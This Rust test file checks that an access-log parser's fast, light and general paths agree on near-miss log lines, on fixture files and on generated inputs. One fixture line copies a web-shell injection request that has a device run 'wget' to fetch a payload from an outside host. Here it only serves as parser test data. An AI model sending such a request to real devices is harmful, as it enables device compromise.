//! The fast paths against the general code: for every line, `clf::parse` (fast paths on)
//! and `clf::parse_general` (off) must give the same outcome (malformed reasons included)
//! and the same `Request`, and a light parse (`ParseOptions::light`) the same outcome and
//! the same counted fields. Lines come from a table of near misses, a proptest grammar that
//! mixes the usual shape with its deviations, and every line of the access fixtures.

use std::io::Read as _;
use std::path::Path;

use proptest::prelude::*;

use super::super::escape::TextBlock;
use super::super::fields::parse_ipv4_fast;
use super::super::fields::trim;
use super::super::{LineOutcome, ParseOptions, Scratch, clf};
use super::{Rest, head, ipv4_prefix, ipv6_word, rest, rest_light};
use crate::model::{ClientFilter, Request};

/// A light filter that holds every address: every line the fast head reads is light.
fn everyone() -> ClientFilter {
    let all: [ipnet::IpNet; 2] = ["0.0.0.0/0".parse().unwrap(), "::/0".parse().unwrap()];
    ClientFilter::from_networks(&all)
}

/// What a light request still carries (see `ParseOptions::light`; the client is resolved
/// from the peer after `clf::parse`).
fn counted(r: &Request) -> impl PartialEq + std::fmt::Debug {
    (r.time, r.utc_offset_secs, r.peer, r.status, r.bytes_sent)
}

/// Both paths over `lines` in order (one scratch each, so the time cache sees the same
/// sequence); the first difference, if any, as a message. The fast paths run three times: on
/// their own, with the line's text known from a `TextBlock` (as the decoder feeds them), and
/// light (`opts` with every client light) with the text known.
fn diverges(lines: &[&[u8]], opts: &ParseOptions) -> Option<String> {
    let light_opts = ParseOptions { light: Some(everyone()), ..opts.clone() };
    let mut scratch: [Scratch; 4] = Default::default();
    let mut out: [Request; 4] = Default::default();
    for line in lines {
        let line = trim(line);
        let [fast, in_block, general, light] = &mut out;
        let [fast_sc, block_sc, general_sc, light_sc] = &mut scratch;
        for r in [&mut *fast, &mut *in_block, &mut *general, &mut *light] {
            r.clear();
        }
        let a = clf::parse(line, TextBlock::NONE, opts, fast_sc, fast);
        let b = clf::parse(line, TextBlock::new(line), opts, block_sc, in_block);
        let c = clf::parse_general(line, opts, general_sc, general);
        let d = clf::parse(line, TextBlock::new(line), &light_opts, light_sc, light);
        let same =
            |o: &LineOutcome, r: &Request| *o == c && (c != LineOutcome::Request || *r == *general);
        let same_counted =
            d == c && (c != LineOutcome::Request || counted(light) == counted(general));
        if !same(&a, fast) || !same(&b, in_block) || !same_counted {
            return Some(format!(
                "{}\nfast:     {a:?} {fast:?}\nin block: {b:?} {in_block:?}\nlight:    {d:?} {light:?}\ngeneral:  {c:?} {general:?}",
                String::from_utf8_lossy(line)
            ));
        }
    }
    None
}

fn assert_same(lines: &[&[u8]]) {
    let berlin = ParseOptions { default_tz: chrono_tz::Europe::Berlin, ..ParseOptions::default() };
    // Peers in 10.0.0.0/8 are proxies: their lines are not light.
    let proxied = ParseOptions {
        trusted_proxies: vec!["10.0.0.0/8".parse().unwrap()],
        ..ParseOptions::default()
    };
    for opts in [ParseOptions::default(), berlin, proxied] {
        if let Some(d) = diverges(lines, &opts) {
            panic!("fast and general paths differ on\n{d}");
        }
    }
}

const USUAL: &[u8] = br#"10.2.32.66 - - [24/Nov/2026:00:00:00 +0000] "POST /v1/completions HTTP/1.1" 200 784 "-" "Go-http-client/1.1""#;

#[test]
fn the_usual_line_takes_both_fast_paths() {
    let (_, lb) = head(USUAL).expect("fast head");
    let rb = lb + 1 + memchr::memchr(b']', &USUAL[lb + 1..]).unwrap();
    let mut out = Request::default();
    assert_eq!(rest(&USUAL[rb + 1..], TextBlock::NONE, &mut out), Some(Rest::Complete));
    let mut light = Request::default();
    assert_eq!(rest_light(&USUAL[rb + 1..], &mut light), Some(Rest::Complete));
    assert_eq!((light.status, light.bytes_sent), (out.status, out.bytes_sent));
    assert_same(&[USUAL]);
}

/// A light parse skips the strings only where the client is the peer and light; a line
/// that leaves the fast path mid-way keeps what the general code read.
#[test]
fn light_parses_skip_strings_only_for_light_peers() {
    let parse = |line: &[u8], opts: &ParseOptions| {
        let mut out = Request::default();
        let outcome = clf::parse(line, TextBlock::NONE, opts, &mut Scratch::default(), &mut out);
        assert_eq!(outcome, LineOutcome::Request, "{}", String::from_utf8_lossy(line));
        out
    };
    let ours = ClientFilter::from_networks(&["10.0.0.0/8".parse().unwrap()]);
    let light = ParseOptions { light: Some(ours.clone()), ..ParseOptions::default() };
    let r = parse(USUAL, &light);
    assert!(r.method.is_empty() && r.target.is_empty() && r.user_agent.is_empty(), "{r:?}");
    assert_eq!((r.status, r.bytes_sent), (200, 784));
    // The peer is a trusted proxy: the client comes from X-Forwarded-For, read in full.
    let proxied =
        ParseOptions { trusted_proxies: vec!["10.2.0.0/16".parse().unwrap()], ..light.clone() };
    assert_eq!(parse(USUAL, &proxied), parse(USUAL, &ParseOptions::default()));
    // Not ours: in full.
    let theirs = USUAL.strip_prefix(b"10.").map(|l| [b"11.", l].concat()).unwrap();
    assert_eq!(parse(&theirs, &light), parse(&theirs, &ParseOptions::default()));
    // Extras after the user agent: the general code reads from the bytes field on.
    let extras = [USUAL, b" \"203.0.113.5\" 0.125"].concat();
    let r = parse(&extras, &light);
    assert!(r.method.is_empty(), "{r:?}");
    assert_eq!((r.forwarded_for.as_str(), r.duration_us), ("203.0.113.5", Some(125_000)));
}

/// Lines beside the usual shape: each differs from it in one place the fast paths check.
const NEAR_MISSES: &[&[u8]] = &[
    USUAL,
    // Head: addresses the fast head refuses or must read exactly as parse_ipv4_fast.
    b"1.2.3.4 -",
    b"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000]",
    br#"10.20.30.4000 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"1.2.3.04 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"1.2..3 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#".1.2.3 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"1.2.3. - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"199.250.255.0 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"100.200.300.1 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"0.0.0.0 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"255.255.255.255 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"256.1.1.1 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"01.1.1.1 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"1.2.3 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"1.2.3.4.5 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"1.2.3.4:8080 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"1.2.3.40000 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"2001:db8::7 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"2001:DB8:0:0:0:0:0:7 - frank [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#":: - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"::ffff:1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"fe80::1%eth0 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"[2001:db8::7]:443 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"1:2:3:4:5:6:7:8:9 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"1:2:3:4:5:6:7::8 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"dead:beef - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"cafe - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"2001:db8::7  - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"2001:db8::7, 10.0.0.1 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"host.example.com - frank [10/Oct/2000:13:55:36 -0700] "GET /a.gif HTTP/1.0" 304 -"#,
    br#"www.example.com 1.2.3.4 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/2.0" 200 1 "-" "x""#,
    br#"10.0.0.2, 10.0.0.1, 85.181.35.98 - - [07/Dec/2016:11:05:07 +0100] "GET /o HTTP/1.1" 200 5 "-" "F""#,
    br#""10.5.1.2, 199.96.1.1" 10.2.1.185 - - [22/Jan/2016:13:18:29 +0000] "GET / HTTP/1.1" 200 2 "-" "C""#,
    br#"1.2.3.4 - frank [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"1.2.3.4 a[b - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    b"1.2.3.4 -\t- [24/Nov/2026:00:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"ua\"",
    br#"1.2.3.4  - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"1.2.3.4 - -  [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    b"1.2.3.4 \t - [24/Nov/2026:00:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"ua\"",
    b"1.2.3.4 - \t [24/Nov/2026:00:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"ua\"",
    br#"1.2.3.4 - - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"1.2.3.4 - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"192.168.202.254 [20/Jul/2009:22:59:29 +0000] "GET /x HTTP/1.0" 404 46210 "-" "gPXE""#,
    // Time.
    br#"1.2.3.4 - - [24/Nov/2026:00:00:01 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:61 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"1.2.3.4 - - [31/Feb/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00] "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000 "GET / HTTP/1.1" 200 1 "-" "ua""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000]"GET / HTTP/1.1" 200 1 "-" "ua""#,
    // Request lines that do not split, or split differently.
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "" 400 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "-" 400 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "HELP" 400 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET /a b HTTP/1.1" 400 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET  / HTTP/1.1" 400 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1 " 400 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / http/1.0" 200 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/" 200 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTPS/1.1" 200 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1"200 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "G.T / HTTP/1.1" 200 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456 / HTTP/1.1" 200 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "ABCDEFGHIJKLMNOPQRSTUVWXYZ012345 / HTTP/1.1" 200 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "get /x HTTP/1.1" 200 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET /\x41\"b HTTP/1.1" 200 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03" 400 157 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET http://h:80/shell?cd+/tmp;wget+ a.tk/jaws HTTP/1.1" 400 0 "-" "-""#,
    "1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] \"GET /caf\u{e9} HTTP/1.1\" 200 0 \"-\" \"-\"".as_bytes(),
    b"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] \"GET /caf\xe9 HTTP/1.1\" 200 0 \"-\" \"-\"",
    b"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] \"GET / HTTP/1.1\xff\" 200 0 \"-\" \"-\"",
    // Every method and protocol copied as a constant, and their near misses.
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "POST / HTTP/1.0" 200 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "HEAD / HTTP/2.0" 200 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "PUT / HTTP/1.1" 200 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "DELETE / HTTP/1.1" 200 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "OPTIONS / HTTP/1.1" 200 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "PATCH / HTTP/1.1" 200 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "PROPFIND / HTTP/3" 200 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GETS / HTTP/1.11" 200 0 "-" "-""#,
    // Status and bytes.
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 000 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 2000 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 20a 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1"  200 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200  0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" "200" 0 "-" "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200"#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 "#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 -"#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 -5"#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1.5"#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 9999999999999999999"#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 99999999999999999999"#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 12"ab" "c""#,
    // Referer, user agent and what follows.
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "" """#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "x" "y""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "\"" "y""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "\" "ua""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "\" "ua""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "http://\xe4\xb8\xad" "say \"hi\" \\ x""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua" "203.0.113.5, 10.0.0.8" 0.125"#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua" 42 "r@docker" "http://10.0.0.2:80" 12ms"#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 0.003"#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-"  "ua""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1  "-" "ua""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua" "#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-""#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" ua"#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua"x"#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua\"#,
    br#"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua"10.0.0.1 - - [24/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 2 "-" "ua""#,
    b"1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"Mozilla \xff\xfe\"",
    "1.2.3.4 - - [24/Nov/2026:00:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"Mozilla \u{1F600}\"".as_bytes(),
    b"1.2.3.4 \xff - [24/Nov/2026:00:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"ua\"",
    b"\0\x01\xff\xfe garbage",
    b"",
];

#[test]
fn near_misses_give_what_the_general_code_gives() {
    assert_same(NEAR_MISSES);
    for line in NEAR_MISSES {
        assert_same(&[line]);
    }
}

#[test]
fn every_fixture_line_gives_what_the_general_code_gives() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/access");
    let mut files = 0;
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        let mut bytes = std::fs::read(&path).unwrap();
        if path.extension().is_some_and(|e| e == "gz") {
            let mut plain = Vec::new();
            flate2::read::MultiGzDecoder::new(&bytes[..]).read_to_end(&mut plain).unwrap();
            bytes = plain;
        }
        let lines: Vec<&[u8]> = bytes.split(|&b| b == b'\n').collect();
        assert_same(&lines);
        files += 1;
    }
    assert!(files >= 10, "fixtures not found in {}", dir.display());
}

/// One piece of a line: the usual text or one of its deviations.
fn piece(usual: &'static str, others: &'static [&'static str]) -> BoxedStrategy<String> {
    prop_oneof![
        3 => Just(usual.to_owned()),
        1 => proptest::sample::select(others).prop_map(str::to_owned),
    ]
    .boxed()
}

fn line_strategy() -> impl Strategy<Value = Vec<u8>> {
    let addr = piece(
        "10.2.32.66",
        &[
            "0.0.0.0",
            "01.2.3.4",
            "256.0.0.1",
            "1.2.3",
            "2001:db8::1",
            "::",
            "1::2::3",
            "2001:db8:0:0:0:0:0:1",
            "abcd",
            "h.example",
            "1.2.3.4:80",
            "a, 1.2.3.4",
            "\"1.1.1.1\" 2.2.2.2",
            "",
        ],
    );
    let ident_user = piece(
        " - - ",
        &[
            " - frank ",
            " a[b - ",
            " -\t- ",
            " \t - ",
            " - \t ",
            "  - - ",
            " - ",
            " - - - ",
            " \u{e9} - ",
        ],
    );
    let time = piece(
        "[24/Nov/2026:00:00:00 +0000]",
        &[
            "[24/Nov/2026:00:00:01 +0000]",
            "[24/Nov/2026:23:59:59 -0130]",
            "[24/Nov/2026:24:00:00 +0000]",
            "[24/Nov/2026:00:00:00]",
            "[24/Nov/2026:00:00:00 +0000",
            "[]",
        ],
    );
    let method = piece(
        "GET",
        &[
            "POST",
            "HEAD",
            "PUT",
            "DELETE",
            "OPTIONS",
            "PATCH",
            "get",
            "M-_1",
            "G.T",
            "",
            "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456",
        ],
    );
    let target = piece("/v1/models", &["/a b", "/\\x41", "/\"", "", "/caf\u{e9}", "/%20?q=1"]);
    let protocol = piece(
        "HTTP/1.1",
        &["HTTP/1.0", "http/2.0", "HTTP/", "HTTPS/1.1", "HTTP/1.1 ", "", "HTTP/1.1\\\""],
    );
    let status = piece(" 200", &[" 000", " 2000", " 20a", "  200", " \"200\"", "", " -"]);
    let bytes =
        piece(" 784", &[" -", " 0", " -5", " 1.5", " 99999999999999999999", "", " 12\"x\""]);
    let tail = piece(
        " \"-\" \"Go-http-client/1.1\"",
        &[
            "",
            " \"x\" \"y\"",
            " \"\" \"\"",
            " \"-\"  \"ua\"",
            " \"-\" \"ua\" \"1.2.3.4\" 0.5",
            " \"-\" \"ua\"x",
            " \"-\" \"u\\\"a\"",
            " \"\\\" \"ua\"",
            " \"-\" \"ua",
            " \"-\" ua",
            " 0.003",
            " \"-\" \"Mozilla \u{1F600}\"",
        ],
    );
    let glue = piece("\"", &["", "\"x", " \""]);
    (addr, ident_user, time, glue, (method, target, protocol), status, bytes, tail).prop_map(
        |(addr, iu, time, glue, (m, t, p), status, bytes, tail)| {
            let close = if glue == " \"" { "\" " } else { "\"" };
            format!("{addr}{iu}{time} {glue}{m} {t} {p}{close}{status}{bytes}{tail}").into_bytes()
        },
    )
}

/// Text that looks like an IPv6 address: groups of 0–5 hex digits joined by one or two
/// colons, sometimes with a colon or two at either end.
fn ipv6_ish() -> impl Strategy<Value = String> {
    let group = proptest::string::string_regex("[0-9a-fA-F]{0,5}").unwrap();
    let sep = prop_oneof![4 => Just(":"), 1 => Just("::")];
    let end = || prop_oneof![Just(""), Just(":"), Just("::")];
    (end(), proptest::collection::vec((group, sep), 0..10), end()).prop_map(
        |(lead, parts, trail)| {
            let mut s = lead.to_owned();
            for (g, sep) in parts {
                s.push_str(&g);
                s.push_str(sep);
            }
            s.pop();
            s + trail
        },
    )
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]

    /// Where the quad `ipv4_prefix` reads is followed by a space (the only way `head` takes
    /// it), it is what `parse_ipv4_fast` reads before the first space.
    #[test]
    fn ipv4_prefix_is_parse_ipv4_fast(
        head in proptest::string::string_regex(concat!(
            "[0-9.]{0,16}|[0-9]{1,4}(\\.[0-9]{0,4}){0,4}|[0-9.:a/ ]{0,17}",
            // Quads with a byte next to '0'..='9' ('/', ':') or far from them in an octet.
            "|[0-9]{1,3}\\.[0-9/:a\\x80]{1,3}\\.[0-9]{1,3}\\.[0-9/:]{1,3}",
        )).unwrap(),
        tail in proptest::string::string_regex(" - - \\[|[ -~]{0,20}").unwrap(),
    ) {
        let line = format!("{head}{tail}");
        let b = line.as_bytes();
        let want = b.iter().position(|&c| c == b' ')
            .and_then(|sp| parse_ipv4_fast(&b[..sp]).map(|a| (a, sp)));
        let got = ipv4_prefix(b).filter(|&(_, end)| b.get(end) == Some(&b' '));
        prop_assert_eq!(got, want, "{:?}", line);
    }

    /// Without `.` and `%` (which it never accepts), the fast IPv6 reading accepts exactly
    /// what the standard parser accepts, with the same value.
    #[test]
    fn ipv6_word_is_the_standard_parser(w in prop_oneof![
        ipv6_ish(),
        proptest::string::string_regex("[0-9a-fA-F:]{0,41}").unwrap(),
        any::<std::net::Ipv6Addr>().prop_map(|a| a.to_string()),
    ]) {
        let want = if w.contains('.') { None } else { w.parse().ok() };
        prop_assert_eq!(ipv6_word(w.as_bytes()), want, "{}", w);
    }

    #[test]
    fn generated_lines_give_what_the_general_code_gives(
        lines in proptest::collection::vec(line_strategy(), 1..6),
    ) {
        let refs: Vec<&[u8]> = lines.iter().map(Vec::as_slice).collect();
        if let Some(d) = diverges(&refs, &ParseOptions::default()) {
            prop_assert!(false, "fast and general paths differ on\n{}", d);
        }
    }
}
